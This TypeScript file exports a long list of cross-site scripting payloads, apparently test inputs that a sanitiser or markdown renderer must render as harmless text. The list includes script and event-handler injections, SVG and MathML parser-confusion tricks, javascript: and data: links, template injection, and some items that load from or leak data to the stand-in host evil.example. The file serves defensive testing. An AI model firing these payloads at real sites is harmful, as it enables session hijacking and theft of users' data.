// Messages that try to run a script, load something from afar, or leave their place. Each must end as harmless text.
export const payloads: readonly string[] = [
  // Elements that run
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>', '<img src="https://evil.example/p.png">',
  '<img srcset="https://evil.example/p.png 2x">', '<image href="https://evil.example/p.png">', '<body onload=alert(1)>', '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>', '<svg><style>@import "https://evil.example/x.css"</style></svg>',
  '<math href="javascript:alert(1)">x</math>', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="https://evil.example/x.swf"></object>', '<embed src="https://evil.example/x">',
  '<video><source onerror="alert(1)"></video>', '<video poster="https://evil.example/p.png"></video>', '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>', '<marquee onstart=alert(1)>', '<input onfocus=alert(1) autofocus>', '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>', '<button formaction="javascript:alert(1)">x</button>', '<form action="https://evil.example"><input name=q></form>',
  '<isindex action=javascript:alert(1) type=image>', '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">', '<link rel=prefetch href="https://evil.example/x">', '<style>@import url(https://evil.example/x.css);</style>',
  '<div style="background:url(https://evil.example/p.png)">x</div>', '<div style="width:expression(alert(1))">x</div>', '<p id=app>clobber</p>',
  '<a name=app href=x>clobber</a>', '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><img src=x onerror=alert(1)></xmp>', '<plaintext><img src=x onerror=alert(1)>', '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>', '<!DOCTYPE x [<!ENTITY e SYSTEM "https://evil.example/x">]>', '<x onclick=alert(1)>x</x>', '<slot onslotchange=alert(1)>',
  // Parsers that disagree
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math></p><style><!--</style><img src/onerror=alert(1)>', '<svg><desc><table><svg></table><style></svg><img src=x onerror=alert(1)>',
  '<table><td background="javascript:alert(1)">', '`<img src=x onerror=alert(1)>', '**<img src=x onerror=alert(1)>**', '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '> <svg/onload=alert(1)>', '- <iframe src=//evil.example>', '# <img src=x onerror=alert(1)>', '```html\n<img src=x onerror=alert(1)>\n```',
  '```"><img src=x onerror=alert(1)>\nx\n```', '~~~js onload=alert(1)\nx\n~~~', '    <script>alert(1)</script>', '&lt;img src=x onerror=alert(1)&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3c;svg onload=alert(1)&#x3e;', '\u003cimg src=x onerror=alert(1)\u003e', '<img\u0000src=x onerror=alert(1)>', '<im\u200bg src=x onerror=alert(1)>',
  // Links
  '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](java\nscript:alert(1))', '[x](&#106;avascript:alert(1))', '[x](javascript&colon;alert(1))', '[x](javascript&#58;alert(1))',
  '[x](java&Tab;script:alert(1))', '[x](\u0001javascript:alert(1))', '[x](data:text/html,<script>alert(1)</script>)', '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))', '[x](file:///etc/passwd)', '[x](blob:https://evil.example/x)', '[x](tauri://localhost)', '[x](ipc://localhost/x)', '[x](asset://localhost/etc/passwd)',
  '[x](//evil.example)', '[x](/settings)', '[x](#app)', '[x](<javascript:alert(1)>)', '[x](https://a.example" onclick="alert(1))', '[x](https://a.example "t\\" onmouseover=alert(1) x=\\"")',
  '<javascript:alert(1)>', '<https://a.example/"onmouseover="alert(1)>', 'https://a.example/"><script>alert(1)</script>', '[x][r]\n\n[r]: javascript:alert(1)', '[x][__proto__]\n\n[__proto__]: https://a.example',
  '[a](javascript:alert(1)//https://good.example)', '[<img src=x onerror=alert(1)>](https://a.example)', 'mailto:a@b.example?body=<script>',
  // Pictures that call home
  '![x](https://evil.example/p.png)', '![x](//evil.example/p.png)', '![x](data:image/svg+xml,<svg onload=alert(1)>)', '![x"onerror="alert(1)](x)', '![x](javascript:alert(1))',
  '[![x](https://evil.example/p.png)](https://a.example)', '![x][r]\n\n[r]: https://evil.example/p.png', '![secret](https://evil.example/?q=secret)',
  // Templates of frameworks
  '{{constructor.constructor("alert(1)")()}}', '{@html "<img src=x onerror=alert(1)>"}', '${alert(1)}', '<%= alert(1) %>', '{#await alert(1)}{/await}', '__proto__', 'constructor', '<div x-data="alert(1)">', '<div v-html="x">',
];
